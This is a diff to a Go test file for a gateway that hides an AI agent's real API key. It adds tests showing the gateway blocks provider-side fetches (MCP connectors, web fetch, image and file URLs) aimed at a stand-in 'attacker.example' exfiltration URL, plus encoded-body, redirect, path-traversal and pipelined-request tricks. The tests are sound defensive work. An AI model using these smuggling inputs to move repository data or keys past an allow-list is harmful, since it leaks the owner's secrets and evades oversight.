@@ -13,6 +13,7 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"time"
 )
 
 // upstreamRecorder is a model API that records what reached it.
@@ -172,7 +173,7 @@ func BenchmarkModelRequest(b *testing.B) {
 	}))
 	defer hs.Close()
 	u, _ := url.Parse(hs.URL)
-	body := strings.Repeat("x", 4096)
+	body := `{"model":"m","messages":[{"role":"user","content":"` + strings.Repeat("x", 4096) + `"}]}`
 	run := func(b *testing.B, client *http.Client, base string) {
 		for b.Loop() {
 			req, _ := http.NewRequest("POST", base+"/v1/messages", strings.NewReader(body))
@@ -192,4 +193,265 @@ func BenchmarkModelRequest(b *testing.B) {
 	b.Run("gateway", func(b *testing.B) {
 		run(b, serveGateway(b, &Gateway{Provider: ProviderAnthropic, Upstream: u, Key: "k", Placeholder: "p"}), "http://gateway")
 	})
+}
+
+// TestGatewayServerFetch: an agent holding only the placeholder asks the
+// provider, in a model call the gateway would pass, to connect somewhere
+// for it (Anthropic's MCP connector or web fetch tool, OpenAI's remote
+// MCP tool, Gemini's URL context, an image or file given by a web
+// address for the provider to download): the provider's servers
+// would carry the repository past the step's allow-list. Each such call
+// is refused before it reaches the upstream, however the member is
+// spelled; model calls that only use the agent's own tools pass.
+func TestGatewayServerFetch(t *testing.T) {
+	t.Parallel()
+	up := &upstreamRecorder{}
+	hs := httptest.NewServer(up)
+	defer hs.Close()
+	const ph = "planex-placeholder-abc"
+	type row struct {
+		name, body string
+		status     int
+	}
+	exfil := `https://attacker.example/collect?d=c2VjcmV0`
+	providers := []struct {
+		p          Provider
+		base, path string
+		header     string
+		rows       []row
+	}{
+		{ProviderAnthropic, "/", "/v1/messages", "X-Api-Key", []row{
+			{"plain call", `{"model":"m","messages":[{"role":"user","content":"mcp_servers web_fetch_20250910"}]}`, 200},
+			{"own tools and web search", `{"model":"m","tools":[{"name":"Bash","input_schema":{"type":"object"}},{"type":"web_search_20250305","name":"web_search"}],"messages":[]}`, 200},
+			{"MCP connector", `{"model":"m","mcp_servers":[{"type":"url","url":"` + exfil + `","name":"x"}],"messages":[]}`, 403},
+			{"MCP connector, escaped name", `{"model":"m","mcp\u005fservers":[{"type":"url","url":"` + exfil + `","name":"x"}],"messages":[]}`, 403},
+			{"MCP connector, other case", `{"model":"m","MCP_Servers":[{"url":"` + exfil + `"}],"messages":[]}`, 403},
+			{"MCP toolset", `{"model":"m","tools":[{"type":"mcp_toolset","mcp_server_name":"x"}],"messages":[]}`, 403},
+			{"web fetch", `{"model":"m","tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"messages":[{"role":"user","content":"fetch ` + exfil + `"}]}`, 403},
+			{"web fetch behind a duplicate type", `{"model":"m","tools":[{"type":"web_fetch_20250910","type":"custom","name":"web_fetch"}],"messages":[]}`, 403},
+			{"image by URL", `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"` + exfil + `"}}]}]}`, 403},
+			{"document by URL, type spelled in upper case", `{"model":"m","messages":[{"role":"user","content":[{"type":"document","source":{"url":"` + exfil + `","type":"URL"}}]}]}`, 403},
+			{"image inline, and a fetch the CLI made itself in the history", `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]},` +
+				`{"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"WebFetch","input":{"url":"https://docs.example/x","prompt":"read"}}]}]}`, 200},
+			{"deeply nested", `{"model":"m","metadata":` + strings.Repeat("[", 100000) + strings.Repeat("]", 100000) + `}`, 400},
+			{"not JSON", `model=m&mcp_servers=x`, 400},
+			{"two JSON values", `{"model":"m"}{"mcp_servers":[]}`, 400},
+		}},
+		{ProviderOpenAI, "/v1", "/v1/responses", "Authorization", []row{
+			{"function tools", `{"model":"m","input":"hi","tools":[{"type":"function","name":"shell","parameters":{}}]}`, 200},
+			{"remote MCP", `{"model":"m","input":"hi","tools":[{"type":"mcp","server_label":"x","server_url":"` + exfil + `"}]}`, 403},
+			{"remote MCP, escaped type", `{"model":"m","input":"hi","tools":[{"type":"\u006dcp","server_url":"` + exfil + `"}]}`, 403},
+			{"image by URL", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"` + exfil + `"}]}]}`, 403},
+			{"file by URL", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":" HTTPS://attacker.example/x"}]}]}`, 403},
+			{"chat image by URL", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"` + exfil + `"}}]}]}`, 403},
+			{"image as a data URL", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,iVBORw0KGgo="}]}]}`, 200},
+			{"web search (Codex's default tool)", `{"model":"m","input":"hi","tools":[{"type":"web_search","external_web_access":false}]}`, 200},
+		}},
+		{ProviderGemini, "/", "/v1beta/models/gemini-x:generateContent", "X-Goog-Api-Key", []row{
+			{"function declarations and search", `{"contents":[],"tools":[{"functionDeclarations":[{"name":"f"}]},{"googleSearch":{}}]}`, 200},
+			{"URL context", `{"contents":[{"parts":[{"text":"` + exfil + `"}]}],"tools":[{"urlContext":{}}]}`, 403},
+			{"URL context, snake case", `{"contents":[],"tools":[{"url_context":{}}]}`, 403},
+			{"file by web address", `{"contents":[{"parts":[{"fileData":{"mimeType":"text/html","fileUri":"` + exfil + `"}}]}]}`, 403},
+			{"a web address in the text", `{"contents":[{"parts":[{"text":"see ` + exfil + `"}]}]}`, 200},
+		}},
+	}
+	for _, pr := range providers {
+		u, _ := url.Parse(hs.URL + pr.base)
+		client := serveGateway(t, &Gateway{Provider: pr.p, Upstream: u, Key: "sk-real", Placeholder: ph})
+		for _, r := range pr.rows {
+			n := len(up.seen)
+			req, _ := http.NewRequest("POST", "http://gateway"+pr.path, strings.NewReader(r.body))
+			v := ph
+			if pr.header == "Authorization" {
+				v = "Bearer " + ph
+			}
+			req.Header.Set(pr.header, v)
+			resp, err := client.Do(req)
+			if err != nil {
+				t.Fatalf("%s %s: %v", pr.p, r.name, err)
+			}
+			body, _ := io.ReadAll(resp.Body)
+			resp.Body.Close()
+			if resp.StatusCode != r.status {
+				t.Errorf("%s %s: status %d (%s), want %d", pr.p, r.name, resp.StatusCode, body, r.status)
+			}
+			up.mu.Lock()
+			reached := len(up.seen) > n
+			up.mu.Unlock()
+			if reached != (r.status == 200) {
+				t.Errorf("%s %s: upstream reached = %v, want %v", pr.p, r.name, reached, r.status == 200)
+			}
+		}
+	}
+}
+
+// TestGatewayEncodedBody: a compressed body would hide its members from
+// the check, so any content encoding is refused; the body that reaches
+// the upstream is the one checked, with its length.
+func TestGatewayEncodedBody(t *testing.T) {
+	t.Parallel()
+	var got []string
+	var mu sync.Mutex
+	hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		got = append(got, fmt.Sprintf("%d %s", r.ContentLength, b))
+		mu.Unlock()
+	}))
+	defer hs.Close()
+	u, _ := url.Parse(hs.URL)
+	client := serveGateway(t, &Gateway{Provider: ProviderAnthropic, Upstream: u, Key: "k", Placeholder: "p"})
+	for _, ce := range []string{"gzip", "deflate", "br", "identity"} {
+		req, _ := http.NewRequest("POST", "http://gateway/v1/messages", strings.NewReader(`{"model":"m"}`))
+		req.Header.Set("X-Api-Key", "p")
+		req.Header.Set("Content-Encoding", ce)
+		resp, err := client.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		want := http.StatusBadRequest
+		if ce == "identity" {
+			want = http.StatusOK
+		}
+		if resp.StatusCode != want {
+			t.Errorf("Content-Encoding %s: status %d, want %d", ce, resp.StatusCode, want)
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(got) != 1 || got[0] != `13 {"model":"m"}` {
+		t.Errorf("the upstream saw %q, want only the identity call with its length", got)
+	}
+}
+
+// TestGatewayKeyStaysPut: the upstream (or whatever answers for it)
+// redirects a model call elsewhere, or fails: the real key goes to no
+// other host, and no answer the CLI gets (a redirect, the gateway's own
+// errors) holds it.
+func TestGatewayKeyStaysPut(t *testing.T) {
+	t.Parallel()
+	const key = "sk-real-key-4711"
+	var mu sync.Mutex
+	var elsewhere []string
+	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		elsewhere = append(elsewhere, fmt.Sprint(r.Header))
+		mu.Unlock()
+	}))
+	defer attacker.Close()
+	redirecting := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, attacker.URL+"/v1/messages", http.StatusTemporaryRedirect)
+	}))
+	defer redirecting.Close()
+	closed := httptest.NewServer(http.NotFoundHandler())
+	closedURL := closed.URL
+	closed.Close()
+	for _, base := range []string{redirecting.URL, closedURL} {
+		u, _ := url.Parse(base)
+		client := serveGateway(t, &Gateway{Provider: ProviderAnthropic, Upstream: u, Key: key, Placeholder: "p"})
+		client.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
+		req, _ := http.NewRequest("POST", "http://gateway/v1/messages", strings.NewReader(`{"model":"m"}`))
+		req.Header.Set("X-Api-Key", "p")
+		resp, err := client.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		body, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		var hd strings.Builder
+		resp.Header.Write(&hd)
+		if strings.Contains(string(body)+hd.String(), key) {
+			t.Errorf("%s: the answer holds the real key: %s\n%s", base, hd.String(), body)
+		}
+		if base == redirecting.URL && resp.StatusCode != http.StatusTemporaryRedirect {
+			t.Errorf("the redirect was not passed back as it is: %d", resp.StatusCode)
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(elsewhere) > 0 {
+		t.Errorf("the gateway followed a redirect to another host: %v", elsewhere)
+	}
+}
+
+// TestGatewayRequestLineGames: requests written by hand, as a command the
+// CLI runs could send them: an absolute URL naming another host, a Host
+// header naming one, encoded slashes and dot segments, and a second
+// request pipelined after a model call. The key only ever goes to the
+// upstream, and only with a model call's path.
+func TestGatewayRequestLineGames(t *testing.T) {
+	t.Parallel()
+	up := &upstreamRecorder{}
+	hostSeen := make(chan string, 16)
+	hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		hostSeen <- r.Host
+		up.ServeHTTP(w, r)
+	}))
+	defer hs.Close()
+	u, _ := url.Parse(hs.URL)
+	sock := filepath.Join(t.TempDir(), "gw.sock")
+	ln, err := net.Listen("unix", sock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan struct{})
+	g := &Gateway{Provider: ProviderAnthropic, Upstream: u, Key: "sk-real", Placeholder: "p"}
+	go func() { defer close(done); g.Serve(ctx, ln) }()
+	defer func() { cancel(); <-done }()
+	body := `{"model":"m"}`
+	call := func(target, host string) string {
+		return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nX-Api-Key: p\r\nContent-Length: %d\r\n\r\n%s", target, host, len(body), body)
+	}
+	for _, row := range []struct {
+		name, req string
+		statuses  []int
+		paths     []string // what the upstream saw, in order
+	}{
+		{"absolute URL naming another host", call("http://evil.test/v1/messages", "evil.test"), []int{200}, []string{"POST /v1/messages?"}},
+		{"Host header naming another host", call("/v1/messages", "evil.test"), []int{200}, []string{"POST /v1/messages?"}},
+		{"encoded dot segments", call("/v1/messages%2F..%2F..%2Fv1%2Ffiles", "x"), []int{403}, nil},
+		{"dot segments", call("/v1/./messages/../../v1/files", "x"), []int{403}, nil},
+		{"double slash", call("//v1/messages", "x"), []int{403}, nil},
+		{"pipelined after a model call", call("/v1/messages", "x") + "GET /v1/files HTTP/1.1\r\nHost: x\r\nX-Api-Key: p\r\n\r\n", []int{200, 403}, []string{"POST /v1/messages?"}},
+	} {
+		n := len(up.seen)
+		c, err := net.Dial("unix", sock)
+		if err != nil {
+			t.Fatal(err)
+		}
+		c.SetDeadline(time.Now().Add(5 * time.Second))
+		io.WriteString(c, row.req)
+		br := bufio.NewReader(c)
+		var got []int
+		for range row.statuses {
+			resp, err := http.ReadResponse(br, nil)
+			if err != nil {
+				break
+			}
+			io.ReadAll(resp.Body)
+			resp.Body.Close()
+			got = append(got, resp.StatusCode)
+		}
+		c.Close()
+		if fmt.Sprint(got) != fmt.Sprint(row.statuses) {
+			t.Errorf("%s: statuses %v, want %v", row.name, got, row.statuses)
+		}
+		up.mu.Lock()
+		seen := up.seen[n:]
+		up.mu.Unlock()
+		if len(seen) != len(row.paths) {
+			t.Errorf("%s: the upstream saw %q, want %q", row.name, seen, row.paths)
+			continue
+		}
+		for i, p := range row.paths {
+			if !strings.HasPrefix(seen[i], p) {
+				t.Errorf("%s: the upstream saw %q, want %q", row.name, seen[i], p)
+			}
+			if h := <-hostSeen; h != u.Host {
+				t.Errorf("%s: the upstream was asked for host %q, want %q", row.name, h, u.Host)
+			}
+		}
+	}
 }
